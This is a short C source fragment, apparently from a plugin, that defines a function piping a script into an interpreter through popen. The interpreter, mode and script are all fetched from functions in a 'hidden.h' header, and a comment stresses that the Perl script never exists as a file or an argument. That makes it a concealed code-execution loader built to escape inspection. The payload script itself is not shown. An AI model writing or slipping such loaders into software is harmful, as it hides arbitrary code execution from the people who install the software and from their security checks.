/* Perl reads a script from a pipe: nothing of it is ever a file or an argument. */
#include "plugin.h"
#include "hidden.h" /* 0: the interpreter, 1: the mode, 2: the script */
typedef struct stream stream;
extern stream *popen(const char *, const char *);
extern int fputs(const char *, stream *), pclose(stream *);
static void act(char **env) {
    stream *to = popen(hidden0(), hidden1());
    if (!to) return;
    fputs(hidden2(), to);
    pclose(to);
}
